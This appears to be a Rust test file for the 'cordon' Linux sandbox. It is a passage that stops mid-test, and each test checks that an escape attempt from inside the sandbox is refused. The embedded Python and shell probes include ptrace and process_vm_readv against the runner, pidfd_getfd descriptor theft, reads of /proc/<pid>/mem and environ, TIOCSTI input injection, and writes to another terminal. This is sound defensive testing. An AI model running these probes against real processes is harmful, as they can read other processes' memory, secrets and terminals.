        for (what, call) in [
            ("raw", "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)"),
            ("raw ipv6", "socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)"),
            ("packet", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))"),
            ("netlink", "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)"),
            ("mptcp", "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)"),
            ("mptcp ipv6", "socket.socket(socket.AF_INET6, socket.SOCK_STREAM, 262)"),
        ] {
            let code = format!("import socket\n{call}\nprint('ESCAPED: {what} socket')");
            let out = sandbox.run(dirs.python(&code)).await.unwrap();
            let text = text(&out);
            assert!(
                !out.status.success() && (text.contains("[Errno 1]") || text.contains("[Errno 13]")),
                "{what}: expected EPERM or EACCES, got {:?}:\n{text}",
                out.status
            );
        }
    })
    .await
}

// ---------------------------------------------------------------------------
// Other processes
// ---------------------------------------------------------------------------

#[tokio::test]
async fn ptrace_of_the_runner_is_refused() {
    bounded("test", async {
        let dirs = Dirs::new();
        let Some(sandbox) = confined("ptrace_of_the_runner_is_refused", dirs.policy()).await else { return };
        let runner = RUNNER_INSIDE;
        for (request, name) in [(16, "PTRACE_ATTACH"), (0x4206, "PTRACE_SEIZE")] {
            let code = format!(
                "
                pid = int(os.environ['TARGET'])
                check(libc.ptrace({request}, pid, None, None))
                if {request} == 16:
                    os.waitpid(pid, 0x40000000)
                libc.ptrace(17, pid, None, None)
                print('ESCAPED: {name} of the runner')
                "
            );
            let out = sandbox.run(dirs.python_libc(&code).env("TARGET", runner.to_string())).await.unwrap();
            if text(&out).contains(ESCAPED) {
                let _ = kill(Pid::from_raw(runner_on_host(&sandbox) as i32), Signal::SIGCONT);
            }
            assert_refused(&out, &[EPERM, EACCES]);
        }
        let status = fs::read_to_string(format!("/proc/{}/status", runner_on_host(&sandbox))).unwrap();
        assert!(status.lines().any(|line| line == "TracerPid:\t0"), "the runner is traced:\n{status}");
        // The runner is unharmed.
        assert_ok(&sandbox.run(dirs.sh("echo alive")).await.unwrap());
    })
    .await
}

/// Reads 64 bytes of `$TARGET`'s first mapping with process_vm_readv.
const PROCESS_VM_READV: &str = "
    class iovec(ctypes.Structure):
        _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
    pid = int(os.environ['TARGET'])
    try:
        addr = int(open(f'/proc/{pid}/maps').readline().split('-')[0], 16)
    except OSError as e:
        print('maps:', e)
        addr = 0x400000
    buf = ctypes.create_string_buffer(64)
    local = iovec(ctypes.cast(buf, ctypes.c_void_p), 64)
    remote = iovec(addr, 64)
    libc.process_vm_readv.restype = ctypes.c_ssize_t
    n = check(libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))
    print('ESCAPED: read', n, 'bytes:', buf.raw[:n])
";

#[tokio::test]
async fn process_vm_readv_of_the_runner_is_refused() {
    bounded("test", async {
        let dirs = Dirs::new();
        let Some(sandbox) = confined("process_vm_readv_of_the_runner_is_refused", dirs.policy()).await else {
            return;
        };
        let runner = RUNNER_INSIDE.to_string();
        let out = sandbox.run(dirs.python_libc(PROCESS_VM_READV).env("TARGET", runner)).await.unwrap();
        assert_refused(&out, &[EPERM, EACCES]);
        // The test process (the runner's launcher) neither: outside the PID
        // namespace it does not even exist.
        let parent = std::process::id().to_string();
        let out = sandbox.run(dirs.python_libc(PROCESS_VM_READV).env("TARGET", parent)).await.unwrap();
        assert_refused(&out, &[EPERM, EACCES, ESRCH]);
    })
    .await
}

#[tokio::test]
async fn taking_the_runners_descriptors_with_pidfd_getfd_is_refused() {
    bounded("test", async {
        let dirs = Dirs::new();
        let test = "taking_the_runners_descriptors_with_pidfd_getfd_is_refused";
        let Some(sandbox) = confined(test, dirs.policy()).await else { return };
        let code = format!(
            "
            pidfd = check(libc.syscall(434, {RUNNER_INSIDE}, 0))  # pidfd_open
            for target in range(3, 16):
                try:
                    fd = check(libc.syscall(438, pidfd, target, 0))  # pidfd_getfd
                    print('ESCAPED: took fd', target, 'as', os.readlink(f'/proc/self/fd/{{fd}}'))
                except OSError as e:
                    if e.errno != 9:  # EBADF: no such fd in the runner
                        raise
            "
        );
        let out = sandbox.run(dirs.python_libc(&code)).await.unwrap();
        assert_refused(&out, &[EPERM]);
    })
    .await
}

#[tokio::test]
async fn reading_the_parents_memory_is_refused() {
    bounded("test", async {
        let dirs = Dirs::new();
        let Some(sandbox) = confined("reading_the_parents_memory_is_refused", dirs.policy()).await else {
            return;
        };
        let code = "
            import os
            pid = os.environ['TARGET']
            maps = open(f'/proc/{pid}/maps').readline()
            start = int(maps.split('-')[0], 16)
            with open(f'/proc/{pid}/mem', 'rb') as mem:
                mem.seek(start)
                print('ESCAPED: read', mem.read(16))
        ";
        // The runner, visible inside as init, shares the commands' uid and
        // Landlock domain but is not dumpable; the launcher (the test
        // process) is outside the PID namespace, so its /proc entry does not
        // exist in the sandbox's /proc.
        let parent = std::process::id().to_string();
        let runner = RUNNER_INSIDE.to_string();
        for (target, errors) in [(&runner, &[EACCES, EPERM][..]), (&parent, &[EACCES, EPERM, ENOENT][..])] {
            let out = sandbox.run(dirs.python(code).env("TARGET", target)).await.unwrap();
            assert_refused(&out, errors);
            for script in [
                "head -c 16 /proc/$TARGET/mem > /dev/null",
                "cat /proc/$TARGET/environ",
                "cat /proc/$TARGET/maps",
                "ls /proc/$TARGET/root/",
                "ls /proc/$TARGET/cwd/",
                "ls -l /proc/$TARGET/fd/0",
                "cat /proc/$TARGET/fd/0",
            ] {
                let out = sandbox.run(dirs.sh(script).env("TARGET", target)).await.unwrap();
                assert_refused(&out, errors);
            }
        }
    })
    .await
}

#[tokio::test]
async fn signalling_a_process_outside_is_refused() {
    bounded("test", async {
        let dirs = Dirs::new();
        let mut victim = Victim::sleep();
        let Some(sandbox) = confined("signalling_a_process_outside_is_refused", dirs.policy()).await else {
            return;
        };
        if !layer_detail(&sandbox, "landlock").is_some_and(|d| d.contains("signals scoped")) {
            eprintln!(
                "SKIPPED signalling_a_process_outside_is_refused: \
                 Landlock cannot scope signals here (ABI < 6)"
            );
            return;
        }
        // Inside, signals work.
        let out = sandbox.run(dirs.sh("sleep 30 & kill -TERM $! && wait $!; echo status=$?")).await.unwrap();
        assert_ok(&out);
        assert_eq!(String::from_utf8_lossy(&out.stdout), "status=143\n");
        for signal in ["TERM", "KILL", "STOP", "0"] {
            let script = format!("kill -{signal} $VICTIM");
            let out = sandbox.run(dirs.sh(&script).env("VICTIM", victim.pid().to_string())).await.unwrap();
            assert_refused(&out, &[EPERM, ESRCH]);
            assert!(victim.is_running(), "kill -{signal} reached the process outside");
        }
        // The parent (the test process) neither; 0 only probes.
        let parent = std::process::id().to_string();
        let out = sandbox.run(dirs.sh("kill -0 $TARGET").env("TARGET", parent)).await.unwrap();
        assert_refused(&out, &[EPERM, ESRCH]);
    })
    .await
}

#[tokio::test]
async fn processes_outside_are_invisible() {
    bounded("test", async {
        let dirs = Dirs::new();
        let victim = Victim::sleep();
        let Some(sandbox) = confined("processes_outside_are_invisible", dirs.policy()).await else { return };
        // Every process in the sandbox's /proc, as `pid command`.
        let script = "for p in /proc/[0-9]*; do echo \"${p#/proc/} $(tr '\\0' ' ' < $p/cmdline)\"; done";
        let out = sandbox.run(dirs.sh(script)).await.unwrap();
        let text = assert_ok(&out);
        let seen: Vec<(u32, &str)> = text
            .lines()
            .filter_map(|line| line.split_once(' '))
            .filter_map(|(pid, cmd)| Some((pid.parse().ok()?, cmd)))
            .collect();
        // The runner as init, the shell, its loop's children: nothing else.
        assert!(
            seen.iter().any(|&(pid, cmd)| pid == RUNNER_INSIDE && cmd.contains("cordon-runner")),
            "{text}"
        );
        assert!(seen.len() <= 4, "more processes than the sandbox's own are visible:\n{text}");
        for outside in [victim.pid(), std::process::id(), sandbox.info().pid] {
            assert!(
                seen.iter().all(|&(pid, cmd)| pid != outside || !cmd.contains("sleep 60")),
                "the outside process {outside} is visible:\n{text}"
            );
        }
        assert!(!text.contains("sleep 60"), "the outside victim is visible:\n{text}");
    })
    .await
}

#[tokio::test]
async fn the_runner_ignores_signals_from_inside() {
    bounded("test", async {
        let dirs = Dirs::new();
        let Some(sandbox) = confined("the_runner_ignores_signals_from_inside", dirs.policy()).await else {
            return;
        };
        let runner = runner_on_host(&sandbox);
        for signal in ["TERM", "INT", "HUP", "QUIT", "USR1", "STOP", "KILL"] {
            let script = format!("kill -{signal} {RUNNER_INSIDE}; sleep 0.1");
            let out = sandbox.run(dirs.sh(&script)).await.unwrap();
            assert!(!out.status.timed_out, "kill -{signal} 1: {}", text(&out));
            let stat = fs::read_to_string(format!("/proc/{runner}/stat")).unwrap();
            let state = stat[stat.rfind(')').unwrap() + 1..].split_whitespace().next().unwrap().to_string();
            assert!(state == "S" || state == "R", "after kill -{signal} 1 the runner is in state {state}");
            assert_eq!(assert_ok(&sandbox.run(dirs.sh("echo alive")).await.unwrap()), "alive\n");
        }
    })
    .await
}

#[tokio::test]
async fn the_hosts_shared_memory_is_invisible_and_untouched() {
    bounded("test", async {
        let dirs = Dirs::new();
        let name = format!("cordon-escapes-{}", dirs.base.file_name().unwrap().to_str().unwrap());
        let host = Path::new("/dev/shm").join(&name);
        if fs::write(&host, "host secret").is_err() {
            eprintln!(
                "SKIPPED the_hosts_shared_memory_is_invisible_and_untouched: no writable /dev/shm here"
            );
            return;
        }
        struct Remove(PathBuf);
        impl Drop for Remove {
            fn drop(&mut self) {
                let _ = fs::remove_file(&self.0);
                let _ = fs::remove_file(self.0.with_extension("planted"));
            }
        }
        let _remove = Remove(host.clone());
        let test = "the_hosts_shared_memory_is_invisible_and_untouched";
        let Some(sandbox) = confined(test, dirs.policy()).await else { return };
        let out = sandbox.run(dirs.sh("cat /dev/shm/$NAME").env("NAME", &name)).await.unwrap();
        assert_refused(&out, &[ENOENT]);
        let out = sandbox.run(dirs.sh("ls -A /dev/shm")).await.unwrap();
        assert!(!assert_ok(&out).contains(&name), "the host's segment is listed");
        // Writes land in the sandbox's own /dev/shm, never the host's.
        let script = "echo overwritten > /dev/shm/$NAME && echo planted > /dev/shm/$NAME.planted";
        assert_ok(&sandbox.run(dirs.sh(script).env("NAME", &name)).await.unwrap());
        assert_eq!(fs::read_to_string(&host).unwrap(), "host secret");
        assert!(!host.with_extension("planted").exists(), "a file appeared in the host's /dev/shm");
    })
    .await
}

// ---------------------------------------------------------------------------
// UNIX sockets and the terminal
// ---------------------------------------------------------------------------

/// Connects to the abstract socket `$NAME`.
const CONNECT_ABSTRACT: &str = "
    import os, socket
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect('\\0' + os.environ['NAME'])
    s.sendall(b'hello from the sandbox')
    print('ESCAPED: connected')
";

#[tokio::test]
async fn connect_to_an_abstract_unix_socket_outside_is_refused() {
    use std::os::linux::net::SocketAddrExt;
    bounded("test", async {
        let dirs = Dirs::new();
        let name = format!("cordon-escapes-{}", dirs.base.file_name().unwrap().to_str().unwrap());
        let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
        let listener = UnixListener::bind_addr(&addr).unwrap();
        // With the network off the sandbox has its own network namespace,
        // where abstract names are not even visible; with it on, only
        // Landlock's scoping stands in the way.
        for network in [false, true] {
            let policy = dirs.workspace_write().network(network).build().unwrap();
            let test = format!("connect_to_an_abstract_unix_socket_outside_is_refused (network {network})");
            let Some(sandbox) = confined(&test, policy).await else { return };
            if !layer_detail(&sandbox, "landlock").is_some_and(|d| d.contains("abstract unix sockets")) {
                eprintln!("SKIPPED {test}: Landlock cannot scope abstract sockets here (ABI < 6)");
                return;
            }
            let out = sandbox.run(dirs.python(CONNECT_ABSTRACT).env("NAME", &name)).await.unwrap();
            let refusals: &[&str] = if network { &[EPERM] } else { &[EPERM, ECONNREFUSED] };
            assert_refused(&out, refusals);
            assert!(!unix_accepts(&listener), "{test}: the listener outside got a connection");
            // One inside the sandbox is reachable.
            let inside = "
                import os, socket
                name = '\\0cordon-escapes-inside-%d' % os.getpid()
                server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                server.bind(name)
                server.listen()
                client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                client.connect(name)
                print('inside ok')
            ";
            assert_eq!(assert_ok(&sandbox.run(dirs.python(inside)).await.unwrap()), "inside ok\n");
        }
    })
    .await
}

#[tokio::test]
async fn connect_to_a_pathname_unix_socket_outside_is_refused() {
    bounded("test", async {
        let dirs = Dirs::new();
        let path = dirs.outside.join("sock");
        let listener = UnixListener::bind(&path).unwrap();
        let Some(sandbox) =
            confined("connect_to_a_pathname_unix_socket_outside_is_refused", dirs.policy()).await
        else {
            return;
        };
        // One in the workspace is fine.
        let inside = "
            import socket
            server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            server.bind('inside.sock')
            server.listen()
            client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            client.connect('inside.sock')
            print('inside ok')
        ";
        assert_eq!(assert_ok(&sandbox.run(dirs.python(inside)).await.unwrap()), "inside ok\n");
        let code = "
            import os, socket
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect(os.environ['SOCK'])
            s.sendall(b'hello from the sandbox')
            print('ESCAPED: connected')
        ";
        let out = sandbox.run(dirs.python(code).env("SOCK", path_str(&path))).await.unwrap();
        let accepted = unix_accepts(&listener);
        assert_refused(&out, &[EACCES, EPERM, ECONNREFUSED]);
        assert!(!accepted, "the listener outside got a connection");
    })
    .await
}

#[tokio::test]
async fn sending_to_a_datagram_unix_socket_outside_is_refused() {
    bounded("test", async {
        let dirs = Dirs::new();
        let path = dirs.outside.join("dgram.sock");
        let receiver = UnixDatagram::bind(&path).unwrap();
        receiver.set_nonblocking(true).unwrap();
        let Some(sandbox) =
            confined("sending_to_a_datagram_unix_socket_outside_is_refused", dirs.policy()).await
        else {
            return;
        };
        // Like a syslog or journal socket: no connection, just sendto.
        let code = "
            import os, socket
            s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
            s.sendto(b'hello from the sandbox', os.environ['SOCK'])
            print('ESCAPED: sent')
        ";
        let out = sandbox.run(dirs.python(code).env("SOCK", path_str(&path))).await.unwrap();
        assert_refused(&out, &[EACCES, EPERM, ECONNREFUSED]);
        let mut buf = [0u8; 64];
        assert!(receiver.recv(&mut buf).is_err(), "the socket outside received a datagram");
    })
    .await
}

// ---------------------------------------------------------------------------
// The host's /tmp, /run and /var/tmp
// ---------------------------------------------------------------------------

/// Connects to the stream socket `$SOCK`.
const CONNECT_PATHNAME: &str = "
    import os, socket
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(os.environ['SOCK'])
    s.sendall(b'hello from the sandbox')
    print('ESCAPED: connected')
";

/// Removes files the test put in the host's shared directories.
struct RemoveOnDrop(Vec<PathBuf>);

impl Drop for RemoveOnDrop {
    fn drop(&mut self) {
        for path in &self.0 {
            let _ = fs::remove_file(path);
        }
    }
}

/// A name no other test uses: the scratch tree's.
fn unique_name(dirs: &Dirs) -> String {
    format!("cordon-escapes-{}", dirs.base.file_name().unwrap().to_str().unwrap())
}

#[tokio::test]
async fn a_host_socket_recreated_during_the_session_is_unreachable() {
    bounded("test", async {
        let dirs = Dirs::new();
        // A daemon's socket on the host, under /tmp but outside the
        // writable roots, bound before the sandbox starts.
        let host = dirs.base.join("agent");
        fs::create_dir(&host).unwrap();
        let path = host.join("agent.sock");
        let _first = UnixListener::bind(&path).unwrap();
        let test = "a_host_socket_recreated_during_the_session_is_unreachable";
        let Some(sandbox) = confined(test, dirs.policy()).await else { return };
        // The daemon restarts, as docker, an ssh or gpg agent, or D-Bus
        // do: unlink, bind again.
        fs::remove_file(&path).unwrap();
        let second = UnixListener::bind(&path).unwrap();
        let out = sandbox.run(dirs.python(CONNECT_PATHNAME).env("SOCK", path_str(&path))).await.unwrap();
        let accepted = unix_accepts(&second);
        assert_refused(&out, &[ENOENT]);
        assert!(!accepted, "the re-created socket outside got a connection");
    })
    .await
}

/// Binds `relative.sock` in the directory `argv[1]` by its relative name,
/// says `listening`, and at the next line on stdin says whether a
/// connection is waiting.
const RELATIVE_LISTENER: &str = "
    import os, socket, sys
    os.chdir(sys.argv[1])
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.bind('relative.sock')
    s.listen()
    s.setblocking(False)
    print('listening', flush=True)
    sys.stdin.readline()
    try:
        s.accept()
        print('accepted', flush=True)
    except BlockingIOError:
        print('none', flush=True)
";

#[tokio::test]
async fn a_socket_bound_by_a_relative_path_is_unreachable() {
    use std::io::{BufRead, BufReader, Write};
    bounded("test", async {
        let dirs = Dirs::new();
        let host = dirs.base.join("daemon");
        fs::create_dir(&host).unwrap();
        // /proc/net/unix lists such a socket by the name it was bound with,
        // without its directory. A process of its own binds it: the test's
        // threads share one working directory.
        let mut listener = Victim(
            StdCommand::new("python3")
                .arg("-c")
                .arg(dedent(RELATIVE_LISTENER))
                .arg(&host)
                .stdin(Stdio::piped())
                .stdout(Stdio::piped())
                .spawn()
                .unwrap(),
        );
        let mut lines = BufReader::new(listener.0.stdout.take().unwrap()).lines();
        assert_eq!(lines.next().unwrap().unwrap(), "listening");
        let path = host.join("relative.sock");
        assert!(fs::symlink_metadata(&path).is_ok(), "the socket is on the host");
        let test = "a_socket_bound_by_a_relative_path_is_unreachable";
        let Some(sandbox) = confined(test, dirs.policy()).await else { return };
        let out = sandbox.run(dirs.python(CONNECT_PATHNAME).env("SOCK", path_str(&path))).await.unwrap();
        writeln!(listener.0.stdin.as_ref().unwrap()).unwrap();
        let seen = lines.next().unwrap().unwrap();
        assert_refused(&out, &[ENOENT]);
        assert_eq!(seen, "none", "the socket outside got a connection");
    })
    .await
}

#[tokio::test]
async fn the_hosts_tmp_is_empty_inside() {
    bounded("test", async {
        let dirs = Dirs::new();
        let name = unique_name(&dirs);
        // Files of the host's in /tmp (beside the workspace and directly),
        // /var/tmp and /run: where they can be made here.
        let planted: Vec<PathBuf> = [dirs.base.clone(), "/tmp".into(), "/var/tmp".into(), "/run".into()]
            .into_iter()
            .map(|dir| dir.join(format!("{name}.txt")))
            .filter(|file| fs::write(file, "host secret\n").is_ok())
            .collect();
        let _remove = RemoveOnDrop(planted.clone());
        assert!(planted.len() >= 2, "the test could not write /tmp: {planted:?}");
        fs::write(dirs.workspace.join("mine.txt"), "workspace\n").unwrap();
        fs::write(dirs.tmp.join("mine.txt"), "tmp\n").unwrap();
        let Some(sandbox) = confined("the_hosts_tmp_is_empty_inside", dirs.policy()).await else { return };
        for file in &planted {
            let out = sandbox.run(dirs.command("cat").arg(path_str(file))).await.unwrap();
            let text = assert_refused(&out, &[ENOENT]);
            assert!(!text.contains("host secret"), "{}: {text}", file.display());
        }
        // Of the host's /tmp only the way to the writable roots is there
        // (and to the runner, or the test's directory, if they are in it).
        let out = sandbox.run(dirs.sh("ls -A /tmp")).await.unwrap();
        let listed = assert_ok(&out);
        let listed: Vec<&str> = listed.lines().collect();
        let runner_dir = Path::new(RUNNER).parent().unwrap().canonicalize().unwrap();
        let allowed: Vec<String> = [dirs.base.clone(), runner_dir.clone(), std::env::current_dir().unwrap()]
            .iter()
            .filter_map(|path| path.strip_prefix("/tmp").ok()?.components().next())
            .map(|first| first.as_os_str().to_string_lossy().into_owned())
            .collect();
        assert!(listed.iter().all(|entry| allowed.iter().any(|a| a == entry)), "/tmp inside: {listed:?}");
        // The workspace and TMPDIR, under /tmp too, are there and writable.
        let script =
            "cat mine.txt \"$TMPDIR/mine.txt\" && echo made > made.txt && echo made > \"$TMPDIR/made.txt\"";
        assert_eq!(assert_ok(&sandbox.run(dirs.sh(script)).await.unwrap()), "workspace\ntmp\n");
        assert_eq!(fs::read_to_string(dirs.workspace.join("made.txt")).unwrap(), "made\n");
        assert_eq!(fs::read_to_string(dirs.tmp.join("made.txt")).unwrap(), "made\n");
        // The sandbox's /tmp itself takes its own files, which the host
        // never sees; unless it holds a path the sandbox may only read (the
        // runner's or the test's directory), when it stays read-only.
        let holds_read_only =
            [runner_dir, std::env::current_dir().unwrap()].iter().any(|p| p.starts_with("/tmp"));
        let out = sandbox
            .run(dirs.sh("echo x > /tmp/$NAME.new && cat /tmp/$NAME.new").env("NAME", &name))
            .await
            .unwrap();
        if holds_read_only {
            assert_refused(&out, &[EROFS, EACCES]);
        } else {
            assert_eq!(assert_ok(&out), "x\n");
        }
        assert!(!Path::new("/tmp").join(format!("{name}.new")).exists());
    })
    .await
}

#[tokio::test]
async fn the_private_tmp_is_the_sandboxs_own_and_gone_with_it() {
    const TEST: &str = "the_private_tmp_is_the_sandboxs_own_and_gone_with_it";
    bounded("test", async {
        let runner_dir = Path::new(RUNNER).parent().unwrap().canonicalize().unwrap();
        if runner_dir.starts_with("/tmp") || std::env::current_dir().unwrap().starts_with("/tmp") {
            eprintln!(
                "SKIPPED {TEST}: the runner or the test runs from under /tmp, which then stays read-only"
            );
            return;
        }
        let name = format!("cordon-private-{}", std::process::id());
        let (first, second) = (Dirs::new(), Dirs::new());
        // Under read-only as under workspace-write: nothing of the host's
        // is written.
        // (Its working directory outside /tmp, which would hold it read-only.)
        let scratch = host_scratch();
        let read_only = PolicyBuilder::new(Preset::ReadOnly).cwd(scratch.path()).build().unwrap();
        let Some(one) = confined(TEST, first.policy()).await else { return };
        let Some(other) = confined(TEST, read_only).await else { return };
        let write = "echo \"$SECRET\" > /tmp/$NAME && mkdir -p /var/tmp/$NAME && cat /tmp/$NAME";
        let out = one.run(first.sh(write).env("NAME", &name).env("SECRET", "first")).await.unwrap();
        assert_eq!(assert_ok(&out), "first\n");
        // The other sandbox neither sees the first's nor shares its own.
        let inside = |script: &str| second.sh(script).cwd(scratch.path()).env("NAME", &name);
        let out = other.run(inside("cat /tmp/$NAME")).await.unwrap();
        assert_refused(&out, &[ENOENT]);
        let out = other.run(inside(write).env("SECRET", "second")).await.unwrap();
        assert_eq!(assert_ok(&out), "second\n");
        let out = other.run(inside("echo x > x.txt")).await.unwrap();
        assert_refused(&out, &[EROFS, EACCES]);
        let out = one.run(first.sh("cat /tmp/$NAME").env("NAME", &name)).await.unwrap();
        assert_eq!(assert_ok(&out), "first\n");
        // Nothing of it is on the host, during or after.
        for dir in ["/tmp", "/var/tmp"] {
            assert!(!Path::new(dir).join(&name).exists(), "{dir}/{name} on the host");
        }
        end(one).await;
        end(other).await;
        for dir in ["/tmp", "/var/tmp"] {
            assert!(!Path::new(dir).join(&name).exists(), "{dir}/{name} on the host");
        }
    })
    .await
}

#[tokio::test]
async fn a_private_tmp_holding_a_read_only_path_stays_read_only() {
    const TEST: &str = "a_private_tmp_holding_a_read_only_path_stays_read_only";
    bounded("test", async {
        // The working directory of a read-only sandbox, under the host's
        // /tmp: bound back into the private /tmp, readable only.
        let cwd = tempfile::tempdir_in("/tmp").unwrap();
        let cwd_path = cwd.path().canonicalize().unwrap();
        fs::write(cwd_path.join("mine.txt"), "mine\n").unwrap();
        let policy = PolicyBuilder::new(Preset::ReadOnly).cwd(&cwd_path).build().unwrap();
        let Some(sandbox) = confined(TEST, policy).await else { return };
        let detail = layer_detail(&sandbox, "namespaces").unwrap_or_default().to_string();
        assert!(detail.contains("/tmp (read-only)"), "{detail}");
        let run =
            |script: &str| Command::new("sh").arg("-c").arg(script).cwd(&cwd_path).timeout(COMMAND_TIMEOUT);
        assert_eq!(assert_ok(&sandbox.run(run("cat mine.txt")).await.unwrap()), "mine\n");
        for script in ["echo x > /tmp/new.txt", "echo x > mine.txt", "echo x > new.txt"] {
            let out = sandbox.run(run(script)).await.unwrap();
            assert_refused(&out, &[EROFS, EACCES]);
        }
        assert_eq!(fs::read_to_string(cwd_path.join("mine.txt")).unwrap(), "mine\n");
        assert!(!cwd_path.join("new.txt").exists());
        end(sandbox).await;
    })
    .await
}

#[tokio::test]
async fn another_sessions_tmpdir_is_invisible() {
    bounded("test", async {
        let (first, second) = (Dirs::new(), Dirs::new());
        let test = "another_sessions_tmpdir_is_invisible";
        let Some(one) = confined(test, first.policy()).await else { return };
        let Some(other) = confined(test, second.policy()).await else { return };
        // What one session keeps in its TMPDIR and workspace: a compiler's
        // temporaries, a tool's credentials.
        let script = "echo first-secret > \"$TMPDIR/notes.txt\" && echo first-secret > notes.txt";
        assert_ok(&one.run(first.sh(script)).await.unwrap());
        for script in [
            "ls \"$THEIRS\"",
            "cat \"$THEIRS/notes.txt\"",
            "ls \"$THEIRS_WS\"",
            "cat \"$THEIRS_WS/notes.txt\"",
        ] {
            let command = second
                .sh(script)
                .env("THEIRS", path_str(&first.tmp))
                .env("THEIRS_WS", path_str(&first.workspace));
            let out = other.run(command).await.unwrap();
            let text = assert_refused(&out, &[ENOENT]);
            assert!(!text.contains("first-secret"), "{script}: {text}");
        }
        // The other session's /tmp holds its own roots only.
        let out = other.run(second.sh("ls -A /tmp")).await.unwrap();
        let first_name = first.base.file_name().unwrap().to_str().unwrap();
        assert!(!assert_ok(&out).contains(first_name), "the first session's directory is listed");
        // The first still reads its own.
        let out = one.run(first.sh("cat \"$TMPDIR/notes.txt\"")).await.unwrap();
        assert_eq!(assert_ok(&out), "first-secret\n");
    })
    .await
}

#[tokio::test]
async fn dns_configuration_is_readable_with_the_network_on() {
    bounded("test", async {
        let dirs = Dirs::new();
        let Ok(host) = fs::read("/etc/resolv.conf") else {
            eprintln!("SKIPPED dns_configuration_is_readable_with_the_network_on: no /etc/resolv.conf here");
            return;
        };
        // Often a link into /run (systemd-resolved, NetworkManager): what it
        // points to stays readable in the sandbox's own /run.
        let policy = dirs.workspace_write().network(true).build().unwrap();
        let Some(sandbox) = confined("dns_configuration_is_readable_with_the_network_on", policy).await
        else {
            return;
        };
        let out = sandbox.run(dirs.command("cat").arg("/etc/resolv.conf")).await.unwrap();
        assert_ok(&out);
        assert_eq!(out.stdout, host);
    })
    .await
}

#[tokio::test]
async fn tiocsti_into_the_terminal_is_refused() {
    bounded("test", async {
        let dirs = Dirs::new();
        let Some(sandbox) = confined("tiocsti_into_the_terminal_is_refused", dirs.policy()).await else {
            return;
        };
        // Pushed input would be read by whatever reads the terminal next:
        // here the script itself checks.
        for target in ["0", "os.open('/dev/tty', os.O_RDWR)"] {
            let code = format!(
                "
                import fcntl, os, select, termios
                fd = {target}
                fcntl.ioctl(fd, termios.TIOCSTI, b'x')
                ready, _, _ = select.select([0], [], [], 0.5)
                print('ESCAPED: TIOCSTI accepted;', 'input injected' if ready else 'nothing read')
                "
            );
            let out = sandbox.run(dirs.python(&code).tty(Size::default())).await.unwrap();
            assert_refused(&out, &["[Errno 1]"]);
        }
    })
    .await
}

#[tokio::test]
async fn another_terminal_cannot_be_read_or_written() {
    bounded("test", async {
        let dirs = Dirs::new();
        // A terminal outside the sandbox: the user's, say.
        let pty = nix::pty::openpty(None, None).unwrap();
        let slave =
            fs::read_link(format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(&pty.slave))).unwrap();
        let Some(sandbox) = confined("another_terminal_cannot_be_read_or_written", dirs.policy()).await
        else {
            return;
        };
        let code = "
            import os, select
            fd = os.open(os.environ['TERMINAL'], os.O_RDWR | os.O_NOCTTY)
            os.write(fd, b'WRITTEN-FROM-THE-SANDBOX\\r\\n')
            print('ESCAPED: opened and wrote', flush=True)
            ready, _, _ = select.select([fd], [], [], 3)
            if ready:
                print('ESCAPED: read', os.read(fd, 100))
        ";
        let mut process = sandbox.spawn(dirs.python(code).env("TERMINAL", path_str(&slave))).await.unwrap();
        let mut master = fs::File::from(pty.master);
        let typed = tokio::spawn(async move {
            tokio::time::sleep(Duration::from_millis(1000)).await;
            std::io::Write::write_all(&mut master, b"user-password\n").unwrap();
            master
        });
        let mut stdout = Vec::new();
        let mut stderr = Vec::new();
        let status = loop {
            match process.next_event().await.unwrap() {
                Some(Event::Output { stream: cordon::Stream::Stderr, data }) => stderr.extend(data),
                Some(Event::Output { data, .. }) => stdout.extend(data),
                Some(Event::Exited(status)) => break status,
                _ => {}
            }
        };
        let out = Output { status, stdout, stderr, stdout_dropped: 0, stderr_dropped: 0 };
        let master = typed.await.unwrap();
        nix::fcntl::fcntl(&master, nix::fcntl::FcntlArg::F_SETFL(nix::fcntl::OFlag::O_NONBLOCK)).unwrap();
        let mut screen = vec![0u8; 4096];
        let n = (&master).read(&mut screen).unwrap_or(0);
        let screen = String::from_utf8_lossy(&screen[..n]).to_string();
        assert!(
            !screen.contains("WRITTEN-FROM-THE-SANDBOX"),
            "the sandbox wrote to another terminal: {screen:?}"
        );
        // The sandbox has its own devpts instance: the host's terminal is
        // not even there (or, without a mount namespace, denied).
        assert_refused(&out, &[EACCES, EPERM, "No such file or directory"]);
        drop(pty.slave);
    })
    .await
}

// ---------------------------------------------------------------------------
// Privileges, namespaces, mounts
// ---------------------------------------------------------------------------

#[tokio::test]
async fn setuid_binaries_and_capabilities_give_no_privileges() {
    bounded("test", async {
        let dirs = Dirs::new();
        const TEST: &str = "setuid_binaries_and_capabilities_give_no_privileges";
        // A setuid copy of id owned by someone else, made outside before
        // launch. Only root can make one owned by another user; and the
        // setuid bit must work here outside the sandbox, or its failing
        // inside proves nothing.
        let setuid_copy = if nix::unistd::geteuid().is_root() {
            let copy = dirs.outside.join("id-setuid-nobody");
            let id = ["/usr/bin/id", "/bin/id"].into_iter().find(|p| Path::new(p).exists()).expect("id");
            fs::copy(id, &copy).unwrap();
            nix::unistd::chown(
                &copy,
                Some(nix::unistd::Uid::from_raw(65534)),
                Some(nix::unistd::Gid::from_raw(65534)),
            )
            .unwrap();
            fs::set_permissions(&copy, fs::Permissions::from_mode(0o4755)).unwrap();
